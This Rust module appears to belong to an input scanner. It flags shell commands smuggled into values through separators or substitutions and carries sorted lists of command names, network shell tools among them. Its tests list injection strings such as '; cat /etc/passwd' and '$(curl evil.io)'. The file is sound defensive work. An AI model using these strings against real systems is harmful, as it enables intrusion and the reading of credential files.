//! Shell commands smuggled into values: a separator or a substitution, then a command (POSIX
//! Shell Command Language sections 2.9 and 2.6.3; cmd.exe and PowerShell likewise).

use super::{Signal, Signals};

/// Places in one text that are looked at.
const PLACES_MAX: usize = 500;

/// Notes each separator or substitution in folded text that is followed by a command.
pub(super) fn recognise(text: &str, signals: &mut Signals) {
    let bytes = text.as_bytes();
    let table = text.starts_with('|') || text.contains("\n|");
    let mut looked = 0;
    for (at, byte) in bytes.iter().enumerate() {
        let next = bytes.get(at + 1);
        let opens = match byte {
            b'|' => !table || next == Some(&b'|'),
            b';' | b'&' | b'\n' | b'`' => true,
            b'(' => at > 0 && matches!(bytes.get(at - 1), Some(b'$' | b'<' | b'>' | b'`')),
            b'{' => next.is_some_and(|b| *b == b',') || at == 0,
            _ => false,
        };
        if !opens {
            continue;
        }
        looked += 1;
        if looked > PLACES_MAX {
            break;
        }
        let Some(rest) = text.get(at + 1..) else {
            continue;
        };
        if is_command(rest, *byte != b'\n' && *byte != b'&') {
            signals.put(Signal::ShellInjection, at);
        }
    }
    // A quote closed at the start, then a command: what a value in quotes is broken with.
    let broken = text.trim_start_matches(['\'', '"', ')', ' ']);
    if broken.len() < text.len() && text.starts_with(['\'', '"']) && is_command(broken, false) {
        signals.put(Signal::ShellInjection, 0);
    }
}

/// Whether the text begins with a command and what a command would have behind it.
fn is_command(text: &str, alone: bool) -> bool {
    let text = text.trim_start_matches([' ', '&', '|', ';', '`', '(', '\n', ',', '{', '@']);
    let text = ["time ", "sudo ", "exec ", "command ", "nohup ", "env "]
        .iter()
        .find_map(|prefix| text.strip_prefix(prefix))
        .unwrap_or(text);
    let quoted = text.trim_start_matches(['"', '\'']);
    let length = quoted
        .find(|c: char| {
            !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | ':' | '\\'))
        })
        .unwrap_or(quoted.len());
    let Some(word) = quoted.get(..length) else {
        return false;
    };
    let rest = quoted.get(length..).unwrap_or_default();
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let by_path = ["/bin/", "/sbin/", "/usr/bin/", "/usr/local/bin/"]
        .iter()
        .any(|dir| word.starts_with(dir));
    if by_path {
        return true;
    }
    if COMMANDS.binary_search(&name).is_err() {
        return false;
    }
    let argument = rest.trim_start_matches(['"', '\'', ' ', '+']);
    let first = argument.bytes().next();
    let spaced = rest.starts_with([' ', '+', '\'', '"', '$', '<', '{', '\t', '\n']);
    match first {
        None => !ENGLISH.contains(&name) && (alone || name.len() >= 5),
        Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'>' | b'<' | b'\n' | b'}') => true,
        Some(b'-' | b'/' | b'$' | b'%' | b'~' | b'\\' | b'*' | b'.' | b'?' | b'{') => spaced,
        Some(b'0'..=b'9') => spaced && matches!(name, "sleep" | "ping" | "timeout" | "kill"),
        Some(b'a'..=b'z') => {
            spaced && (TALKING.contains(&name) || argument.contains(['/', '\\', '=']))
                || spaced && argument.starts_with("c:")
        }
        _ => false,
    }
}

/// Commands whose plain words behind them are no sentence.
const TALKING: &[&str] = &[
    "curl",
    "wget",
    "nslookup",
    "ping",
    "whoami",
    "netsh",
    "powershell",
    "ipconfig",
    "ifconfig",
    "systeminfo",
    "tasklist",
    "bash",
    "python",
    "perl",
    "php",
    "ruby",
    "nc",
    "netcat",
    "telnet",
    "dig",
    "uname",
    "iex",
    "wmic",
    "certutil",
    "bitsadmin",
    "chmod",
    "chown",
    "echo",
    "printf",
    "net",
    "reg",
    "cmd",
    "sh",
    "base64",
    "xxd",
    "tftp",
    "ftp",
    "ssh",
    "scp",
    "mkfifo",
    "mknod",
];

/// Commands that are also words of a sentence: by themselves they prove nothing.
const ENGLISH: &[&str] = &[
    "at", "cut", "date", "file", "find", "finger", "head", "host", "last", "less", "locate",
    "mail", "make", "man", "more", "mount", "net", "paste", "set", "sort", "start", "stat",
    "strings", "tail", "touch", "type", "ver", "vol", "w", "wall", "watch", "which", "who", "yes",
    "node", "ed",
];

/// Commands that injections run, sorted.
const COMMANDS: &[&str] = &[
    "arp",
    "at",
    "awk",
    "base32",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "bzip2",
    "cat",
    "certutil",
    "chgrp",
    "chmod",
    "chown",
    "cmd",
    "cp",
    "crontab",
    "csh",
    "curl",
    "cut",
    "dash",
    "date",
    "dd",
    "df",
    "diff",
    "dig",
    "dir",
    "dmesg",
    "du",
    "echo",
    "ed",
    "egrep",
    "env",
    "expr",
    "fgrep",
    "file",
    "find",
    "finger",
    "ftp",
    "gawk",
    "gcc",
    "gdb",
    "get-process",
    "grep",
    "gunzip",
    "gzip",
    "head",
    "host",
    "hostname",
    "id",
    "iex",
    "ifconfig",
    "invoke-expression",
    "invoke-webrequest",
    "ip",
    "ipconfig",
    "iptables",
    "java",
    "jobs",
    "kill",
    "killall",
    "ksh",
    "last",
    "less",
    "ln",
    "locate",
    "ls",
    "lsof",
    "lua",
    "lynx",
    "mail",
    "make",
    "man",
    "mkdir",
    "mkfifo",
    "mknod",
    "more",
    "mount",
    "mshta",
    "mv",
    "mysql",
    "nano",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "nl",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "paste",
    "perl",
    "php",
    "ping",
    "pkill",
    "powershell",
    "printenv",
    "printf",
    "ps",
    "psql",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "reboot",
    "reg",
    "regsvr32",
    "rev",
    "rm",
    "rmdir",
    "rsync",
    "ruby",
    "rundll32",
    "sc",
    "schtasks",
    "scp",
    "sed",
    "set",
    "sh",
    "shutdown",
    "sleep",
    "socat",
    "sort",
    "ssh",
    "start",
    "stat",
    "strace",
    "strings",
    "su",
    "sudo",
    "sysctl",
    "systemctl",
    "systeminfo",
    "tac",
    "tail",
    "tar",
    "taskkill",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tee",
    "telnet",
    "tftp",
    "timeout",
    "touch",
    "tr",
    "traceroute",
    "type",
    "ulimit",
    "uname",
    "uniq",
    "unzip",
    "uptime",
    "useradd",
    "ver",
    "vi",
    "vim",
    "vol",
    "w",
    "wall",
    "watch",
    "wc",
    "wget",
    "whereis",
    "which",
    "who",
    "whoami",
    "wmic",
    "xargs",
    "xxd",
    "yes",
    "zcat",
    "zip",
    "zsh",
];

#[cfg(test)]
mod tests {
    use super::super::{Signal, Signals};
    use super::{COMMANDS, recognise};

    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    #[test]
    fn the_commands_are_sorted() {
        assert!(COMMANDS.is_sorted());
    }

    #[test]
    fn smuggled_commands_are_seen() {
        for (text, smuggled) in [
            ("; cat /etc/passwd", true),
            ("x|id", true),
            ("a && whoami", true),
            ("$(curl evil.io)", true),
            ("`sleep 5`", true),
            ("8.8.8.8; /bin/ls", true),
            ("x\nping -c 3 10.0.0.1", true),
            ("'; uname -a #", true),
            ("tea & cake", false),
            ("write; find it", false),
            ("a|b|c", false),
            ("cats && dogs", false),
            ("first; last", false),
        ] {
            let mut signals = Signals::default();
            recognise(text, &mut signals);
            assert_eq!(signals.contains(Signal::ShellInjection), smuggled, "{text}");
        }
    }
}
